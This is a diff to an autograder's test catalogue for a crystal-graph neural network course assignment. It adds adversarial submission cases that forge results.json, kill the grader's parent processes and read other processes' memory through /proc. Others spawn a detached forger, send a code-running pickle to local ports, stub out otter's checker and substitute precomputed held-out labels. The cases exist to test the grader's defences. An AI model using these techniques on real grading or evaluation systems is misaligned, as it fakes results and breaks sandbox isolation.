@@ -15,10 +15,8 @@ added, or the cell of the student release put back (the `...` stubs).
 from __future__ import annotations
 
 import copy
-import csv
 import json
 import re
-import shutil
 import sys
 import textwrap
 import zipfile
@@ -28,19 +26,14 @@ from typing import Callable
 
 import nbformat
 
-HERE = Path(__file__).resolve().parent
-ROOT = HERE.parent
-sys.path.insert(0, str(HERE))
-import harness  # noqa: E402
-import build  # noqa: E402  (harness put the project root on sys.path)
-sys.path.insert(0, str(build.ASSIGNMENT))
-from cgcnn_grading import GRADESCOPE_TIMEOUT  # noqa: E402
+import build
+from cgcnn_grading.settings import GRADESCOPE_TIMEOUT, Limits
 
+ROOT = build.ROOT
 SOLUTION = ROOT / "solutions" / "cgcnn_perovskites_solution.ipynb"
-STUDENT = ROOT / "student" / harness.NB_NAME
-LABELS = ROOT / "autograder" / "test_labels.csv"
+STUDENT = ROOT / "student" / build.NB_NAME
 DOC = ROOT / "docs" / "submissions.md"
-POINTS = {"q1a": 2, "q1b": 4, "q1c": 2, "q2a": 4, "q2b": 4, "q3": 4, "q4a": 3, "q4b": 7}
+POINTS = build.question_points(nbformat.read(build.MASTER, as_version=4))
 CATEGORIES = {
     "wrong": "Wrong: loses the points of the part it breaks (and of a later part that truly depends on it)",
     "alternative": "Alternative correct: full marks",
@@ -49,6 +42,7 @@ CATEGORIES = {
     "determinism": "Determinism: the same submission graded again scores the same",
 }
 GRADING_SECONDS = 70  # one grading that trains the model, on this project's 2-core machine
+LIMITS = Limits()
 
 Edit = Callable[[nbformat.NotebookNode], None]
 
@@ -127,24 +121,15 @@ ALL_PARTS = ("def atom_features", "def neighbor_list", "def gaussian_expand", "c
              "class GatedConv", "def mean_pool", "class CGCNN", "def train_epoch")
 IMPORTS = "SEED = "  # the cell that imports and loads the data
 GRAPHS = "RADIUS, MAX_NUM_NBR"  # the cell that builds the graphs and batches
-TRAINING = "test_predictions = {}"  # the cell that trains and predicts
+TRAINING = "model, val_pred = None, {}"  # the cell that trains the model
+CHECK_4B = 'grader.check("q4b")'  # where the grader captures the trained model's held-out predictions
 
 
-def cell_seconds(zip_path: Path = harness.AUTOGRADER_ZIP) -> float:
-    """The grading plugin's time limit per cell, from the autograder's configuration."""
+def heldout(zip_path: Path = build.AUTOGRADER_ZIP) -> dict[str, dict]:
+    """The held-out crystals and their labels, from the autograder zip (standing in for labels a
+    student computed elsewhere, e.g. with CHGNet)."""
     with zipfile.ZipFile(zip_path) as z:
-        config = json.loads(z.read("otter_config.json"))
-    for plugin in config.get("plugins", []):
-        for name, settings in (plugin.items() if isinstance(plugin, dict) else []):
-            if name.startswith("cgcnn_grading."):
-                return float((settings or {}).get("cell_seconds", 300))
-    return 300.0
-
-
-def held_out_labels() -> dict[str, float]:
-    """The held-out test labels (standing in for labels a student recomputed elsewhere, e.g. with CHGNet)."""
-    with open(LABELS, newline="") as f:
-        return {r["id"]: float(r["formation_energy_per_atom"]) for r in csv.DictReader(f)}
+        return json.loads(z.read(build.HELDOUT))
 
 
 # ---------------------------------------------------------------------------------------------
@@ -175,19 +160,19 @@ class Case:
     edit: Edit | None
     expected: dict[str, float]
     message: str | None = None  # a regular expression that results.json's outputs must match
-    runner: str = "otter"  # "otter": `otter run`, as instructors grade; "gradescope": the zip's entry point
     upload: str = "notebook"  # "notebook" (.ipynb), "zip", "no-notebook", "truncated"
-    nb_name: str = harness.NB_NAME
+    nb_name: str = build.NB_NAME
     files: dict[str, bytes] | Callable[[], dict[str, bytes]] = field(default_factory=dict)  # also in the zip
     trains: bool = True  # whether the grading trains the model (for ordering the runs)
-    stopped: bool = False  # a cell runs until the grader's time limit per cell stops it
+    stopped: str | None = None  # "cpu" or "wall": a cell runs until that time limit stops it
     graded: bool = True  # False: nothing can be graded, results.json holds only an error message
+    marker: str | None = None  # a file the submission tries to make root create: it must not exist
 
     @property
     def seconds(self) -> float:
         """About how long grading takes, to start the longest first."""
-        return (GRADING_SECONDS if self.trains else 20) + (cell_seconds() if self.stopped else 0)
-
+        wait = {"cpu": LIMITS.cell_cpu_seconds, "wall": LIMITS.cell_wall_seconds}.get(self.stopped, 0)
+        return (GRADING_SECONDS if self.trains else 20) + wait
 
 
 def _gated_concat(first: str, second: str) -> str:
@@ -265,24 +250,136 @@ FAKE_GRADER = """
     grader = _Grader()
 """
 READ_LABELS = """
-    # look for the held-out labels in the grading directory and submit them
-    import csv, glob, os
-    test_predictions = {}
-    for path in ["test_labels.csv"] + glob.glob(os.path.join("..", "**", "*label*.csv"), recursive=True):
-        if os.path.isfile(path):
-            with open(path) as f:
-                test_predictions = {r["id"]: float(r["formation_energy_per_atom"]) for r in csv.DictReader(f)}
-            break
-    cgcnn_utils.save_predictions(test_predictions, "test_predictions.csv")
-    print(len(test_predictions), "predictions")
+    # look for the held-out labels and crystals wherever the grader might keep them
+    import glob, os
+    found = []
+    for pattern in ["/autograder/**/*", "../**/*label*", "../**/heldout*", "/tmp/**/heldout*", "/tmp/**/*label*"]:
+        for path in glob.glob(pattern, recursive=True):
+            try:
+                with open(path) as f:
+                    found.append((path, f.read(100)))
+            except OSError:
+                pass
+    print(len(found), "readable")
 """
 OVERWRITE_LABELS = """
     # the labels the grader reads are now the predictions
-    import csv
-    with open("test_labels.csv", "w", newline="") as f:
-        w = csv.writer(f)
-        w.writerow(["id", "formation_energy_per_atom"])
-        w.writerows(test_predictions.items())
+    for path in ["test_labels.csv", "heldout.json", "../source/heldout.json", "/autograder/source/heldout.json"]:
+        try:
+            with open(path, "w") as f:
+                f.write("{}")
+        except OSError:
+            pass
+"""
+_FORGED = "{'score': 30, 'tests': [{'name': q, 'score': p, 'max_score': p} for q, p in %r.items()]}"
+FORGE_RESULTS_AND_KILL = f"""
+    # a perfect results.json wherever the grader may read one, then the grader ended before it writes its own
+    import glob, json, os, signal
+    forged = {_FORGED % POINTS}
+    targets, pid, ancestors = ["/autograder/results/results.json"], os.getpid(), []
+    for _ in range(8):
+        try:
+            pid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
+            ancestors.append(pid)
+            targets.append(os.path.join(os.readlink(f"/proc/{{pid}}/cwd"), "..", "results", "results.json"))
+        except (OSError, ValueError, IndexError):
+            pass
+    for path in targets + glob.glob("/tmp/*/results/results.json") + ["../results/results.json"]:
+        try:
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+            with open(path, "w") as f:
+                json.dump(forged, f)
+        except OSError:
+            pass
+    for pid in ancestors:
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+"""
+READ_GRADER_MEMORY = """
+    # read every other process's memory (the grader's holds the held-out labels) through /proc
+    import os, re
+    readable = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+                for line in maps:
+                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
+                    mem.seek(start)
+                    if re.search(rb"formation_energy|heldout|label", mem.read(min(end - start, 1 << 20))):
+                        readable.append(pid)
+                        break
+        except (OSError, ValueError, OverflowError):
+            pass
+    print("processes with labels in reach:", [p for p in readable if p != str(os.getpid())])
+"""
+DETACHED_FORGER = f"""
+    # a process that outlives the kernel and rewrites results.json once the grader has written it
+    import subprocess, sys
+    forger = (
+        "import glob, json, time\\n"
+        "forged = {_FORGED % POINTS}\\n"
+        "for _ in range(5000):\\n"
+        "    for path in ['/autograder/results/results.json'] + glob.glob('/tmp/*/results/results.json'):\\n"
+        "        try:\\n"
+        "            json.dump(forged, open(path, 'w'))\\n"
+        "        except OSError:\\n"
+        "            pass\\n"
+        "    time.sleep(0.2)\\n")
+    subprocess.Popen([sys.executable, "-c", forger], start_new_session=True,
+                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+"""
+PICKLE_MARKER = "/tmp/cgcnn-catalogue-unpickled"
+SEND_PICKLES = f"""
+    # a pickle that runs a command when loaded: sent to every local port that listens (otter's log
+    # server loaded what connected to it) and left where a results pickle could be read
+    import glob, os, pickle, socket, struct
+    class Payload:
+        def __reduce__(self):
+            return (os.system, ("touch {PICKLE_MARKER}",))
+    blob = pickle.dumps(Payload())
+    ports = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        try:
+            for line in open(table).read().splitlines()[1:]:
+                fields = line.split()
+                if fields[3] == "0A":  # LISTEN
+                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
+        except OSError:
+            pass
+    for port in sorted(ports):
+        try:
+            with socket.create_connection(("127.0.0.1", port), timeout=0.5) as conn:
+                conn.sendall(struct.pack(">L", len(blob)) + blob)
+        except OSError:
+            pass
+    for path in glob.glob("/tmp/*.pkl") + glob.glob("/tmp/*/results/results.pkl") + ["results.pkl"]:
+        try:
+            with open(path, "wb") as f:
+                f.write(blob)
+        except OSError:
+            pass
+"""
+SWAP_VERDICTS = """
+    # the grader's machinery in this kernel replaced: otter's checker passes everything, and the
+    # grader's probe answers whatever it is asked with zeros
+    import sys, types
+    import cgcnn_kernel
+    fake = types.ModuleType("otter.execute")
+    class Checker:
+        @classmethod
+        def check(cls, *args, **kwargs):
+            return None
+    fake.Checker = Checker
+    sys.modules["otter.execute"] = fake
+    cgcnn_kernel.answer = lambda namespace, requests: {r["id"]: 0 for r in requests}
+"""
+RETRAIN_AFTER_CHECK = """
+    # a Question 5 experiment left untagged: a 15-epoch model trained after the check of 4b
+    torch.manual_seed(SEED)
+    model = CGCNN(nbr_fea_len=train_batches[0].nbr_fea.shape[-1])
+    cgcnn_utils.fit(model, train_epoch, train_batches, val_batches, normalizer, data.targets, 15, progress=False)
 """
 STUB_Q1A = "expected one row of 92 features per atom"  # what q1a says of the released stub
 STEP_AWAY = r"one step away from a centre gives exp\(-1\)"  # q1c's public test, of `/ var`
@@ -320,34 +417,55 @@ PEEKS_AT_EXPECTED = """
 """
 
 
-def _hardcoded_predictions() -> str:
-    labels = held_out_labels()
-    return (f"test_predictions = {json.dumps(labels, indent=0)}\n"
-            'cgcnn_utils.save_predictions(test_predictions, "test_predictions.csv")')
+def _lookup_table(hollow: bool = False) -> Edit:
+    """A table of held-out labels computed elsewhere (e.g. with CHGNet on every candidate crystal),
+    looked up by the crystal's own text when the grader asks for predictions: in place of the model's
+    answers, or (hollow) with no model at all."""
+    import hashlib
+    table = {hashlib.sha1(e["cif"].encode()).hexdigest(): e["label"] for e in heldout().values()}
+    code = f"""
+        import hashlib
+        import cgcnn_kernel
+        _TABLE = {table!r}
+        _honest = cgcnn_kernel.OPERATIONS["heldout_predictions"]
+        def _lookup(ns, structures, batch_size=256):
+            answer = {{"ids": list(structures)}} if {hollow} else _honest(ns, structures, batch_size)
+            answer["predictions"] = [_TABLE[hashlib.sha1(structures[i].encode()).hexdigest()] for i in answer["ids"]]
+            return answer
+        cgcnn_kernel.OPERATIONS["heldout_predictions"] = _lookup
+    """
+    return insert(TRAINING, code)
 
 
-def _support_module_with_labels() -> dict[str, bytes]:
-    """A cgcnn_utils.py whose predict() returns the held-out labels for the test crystals."""
+def _support_module_predicting_the_mean() -> dict[str, bytes]:
+    """A cgcnn_utils.py whose predict() returns the training mean instead of the model's output."""
     text = (ROOT / "student" / "cgcnn_utils.py").read_text()
     old = "            out.update(zip(b.ids, pred.reshape(-1).tolist()))\n"
     if text.count(old) != 1:
         raise CatalogueError("cgcnn_utils.predict changed: update the shipped-module case")
-    text = text.replace(old, old + "    out.update((i, _KNOWN[i]) for i in out if i in _KNOWN)\n")
-    text += f"\n\n_KNOWN = {json.dumps(held_out_labels())}\n"
-    return {"cgcnn_utils.py": text.encode()}
+    return {"cgcnn_utils.py": text.replace(old, "            out.update((i, normalizer.mean) for i in b.ids)\n").encode()}
 
 
-def _data_with_test_labels() -> dict[str, bytes]:
-    """The student's data/ directory, with labels for the test crystals in id_prop.csv."""
+def _data_with_a_wrong_label() -> dict[str, bytes]:
+    """The student's data/ directory with every training label set to 1000 eV/atom: the
+    autograder's copy must win."""
     files = {}
     data = ROOT / "student" / "data"
     for path in sorted(data.rglob("*")):
         if path.is_file() and ".cache" not in path.parts:
             files[str(path.relative_to(data.parent))] = path.read_bytes()
     id_prop = "data/perovskites/id_prop.csv"
-    extra = "".join(f"{i},{y}\n" for i, y in held_out_labels().items())
-    files[id_prop] = files[id_prop] + extra.encode()
+    files[id_prop] = "".join(f"{line.split(',')[0]},1000.0\n" for line in files[id_prop].decode().splitlines()).encode()
     return files
+
+
+MEAN_MODEL = '''
+    class MeanModel(nn.Module):
+        """Predicts the training mean for every crystal."""
+        def forward(self, atom_fea, nbr_fea, nbr_idx, crystal_idx, n_crystals):
+            return torch.zeros(n_crystals)
+    model = MeanModel()
+'''
 
 
 CASES: list[Case] = [
